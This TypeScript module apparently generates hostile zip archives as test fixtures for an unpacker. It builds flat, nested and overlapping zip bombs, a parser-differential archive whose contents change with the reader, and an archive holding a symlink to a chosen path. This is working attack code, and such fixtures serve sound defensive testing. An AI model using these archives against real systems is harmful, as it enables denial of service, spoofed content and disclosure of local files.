/** Archives that attack whoever unpacks them. */
import { crc32, deflateRawSync } from 'node:zlib';
import { type ZipEntry, zipFile } from './zip-file.ts';

const member = (name: string, data: Uint8Array | string): ZipEntry => ({ name, bytes: data });

/** Zeros that unpack to this many megabytes, a thousandth of them packed. */
export function flatBomb(megabytes: number): Uint8Array {
  return zipFile([member('a.txt', new Uint8Array(megabytes * 1024 * 1024))]);
}

/** An archive in an archive in an archive: ten of each, so many levels deep, with a text in the innermost. */
export function nestedBomb(levels: number): Uint8Array {
  let inner = zipFile([member('a.txt', 'Aspirin')]);
  for (let level = 0; level < levels; level++) {
    inner = zipFile(Array.from({ length: 10 }, (_, at) => member(`${at}.zip`, inner)));
  }
  return inner;
}

/**
 * Files that all end in the same packed bytes (D. Fifield, A better zip bomb, 2019): the packed data of each begins with
 * the local header of the next, quoted in a stored block of deflate. `files` times `megabytes` come out of one of them.
 */
export function overlappingBomb(files: number, megabytes: number): Uint8Array {
  const kernel = deflateRawSync(new Uint8Array(megabytes * 1024 * 1024), { level: 9 });
  const plain = new Uint8Array(megabytes * 1024 * 1024);
  let tail: Buffer = kernel;
  let content: Buffer = Buffer.from(plain);
  const headers: { name: string; header: Buffer; packed: number; sum: number; size: number }[] = [];
  for (let at = files - 1; at >= 0; at--) {
    const name = `${at}.txt`.padStart(12, '0');
    const sum = crc32(content);
    const header = localHeader(name, sum, tail.length, content.length);
    headers.unshift({ name, header, packed: tail.length, sum, size: content.length });
    if (at === 0) break;
    const quote = Buffer.alloc(5);
    quote.writeUInt16LE(header.length, 1);
    quote.writeUInt16LE(~header.length & 0xffff, 3);
    tail = Buffer.concat([quote, header, tail]);
    content = Buffer.concat([header, content]);
  }
  const [first] = headers;
  const body = Buffer.concat([first?.header ?? Buffer.alloc(0), tail]);
  let place = 0;
  const directory = headers.map(({ name, header, packed, sum, size }) => {
    const entry = centralHeader(name, sum, packed, size, place);
    place += header.length + 5;
    return entry;
  });
  const listed = Buffer.concat(directory);
  return new Uint8Array(Buffer.concat([body, listed, endOf(files, listed.length, body.length)]));
}

function localHeader(name: string, sum: number, packed: number, size: number): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(sum, 14);
  header.writeUInt32LE(packed, 18);
  header.writeUInt32LE(size, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name)]);
}

function centralHeader(name: string, sum: number, packed: number, size: number, place: number): Buffer {
  const header = Buffer.alloc(46);
  header.writeUInt32LE(0x02014b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(20, 6);
  header.writeUInt16LE(8, 10);
  header.writeUInt32LE(sum, 16);
  header.writeUInt32LE(packed, 20);
  header.writeUInt32LE(size, 24);
  header.writeUInt16LE(name.length, 28);
  header.writeUInt32LE(place, 42);
  return Buffer.concat([header, Buffer.from(name)]);
}

function endOf(files: number, directoryBytes: number, directoryAt: number): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files, 8);
  end.writeUInt16LE(files, 10);
  end.writeUInt32LE(directoryBytes, 12);
  end.writeUInt32LE(directoryAt, 16);
  return end;
}

/** One archive by its directory at the end, another by the headers at its beginning: two programs would read two letters. */
export function twoReadings(): Uint8Array {
  const hidden = Buffer.from(zipFile([member('a.txt', 'Warfarin')]));
  const shown = Buffer.from(zipFile([member('a.txt', 'Aspirin')]));
  const directory = shown.indexOf('PK\x01\x02', 0, 'latin1');
  const entry = Buffer.from(shown.subarray(directory));
  entry.writeUInt32LE(hidden.length, 42);
  const end = entry.length - 22;
  entry.writeUInt32LE(hidden.length + directory, end + 16);
  return new Uint8Array(Buffer.concat([hidden, shown.subarray(0, directory), entry]));
}

/** A link to a file of the machine, as Unix stores it: the member's mode says so and its content is the path. */
export function archiveWithLink(path: string): Uint8Array {
  const bytes = Buffer.from(zipFile([{ name: 'letter.txt', bytes: path, stored: true }]));
  const directory = bytes.indexOf('PK\x01\x02', 0, 'latin1');
  bytes.writeUInt16LE((3 << 8) | 20, directory + 4);
  bytes.writeUInt32LE((0o120777 << 16) >>> 0, directory + 38);
  return new Uint8Array(bytes);
}
